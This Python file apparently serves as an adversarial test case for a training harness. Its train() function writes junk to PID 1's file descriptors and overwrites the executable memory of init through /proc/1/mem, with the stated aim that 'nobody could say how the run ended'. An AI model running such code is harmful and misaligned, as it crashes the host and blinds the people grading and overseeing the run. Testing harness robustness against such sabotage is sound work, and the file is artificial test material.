"""Writes over the memory of its init and takes its descriptors, so that nobody could say how the run ended.

Goal: a crash
Ends: graded, crashed, train_error
"""

import contextlib
import os
from pathlib import Path

from kit import plain


def train():
    for name in ("0", "1", "2", "3", "4", "5", "6"):
        with contextlib.suppress(OSError):
            descriptor = os.open(f"/proc/1/fd/{name}", os.O_RDWR | os.O_NONBLOCK)
            os.read(descriptor, 4096)
            os.write(descriptor, b"\xff" * 8)
    with contextlib.suppress(OSError):
        places = [line.split() for line in Path("/proc/1/maps").read_text().splitlines()]
        with open("/proc/1/mem", "r+b", buffering=0) as memory:
            for place, rights, *_ in places:
                if "x" in rights:
                    begin, end = (int(side, 16) for side in place.split("-"))
                    with contextlib.suppress(OSError, OverflowError):
                        memory.seek(begin)
                        memory.write(b"\xcc" * min(end - begin, 2**20))
    return plain()
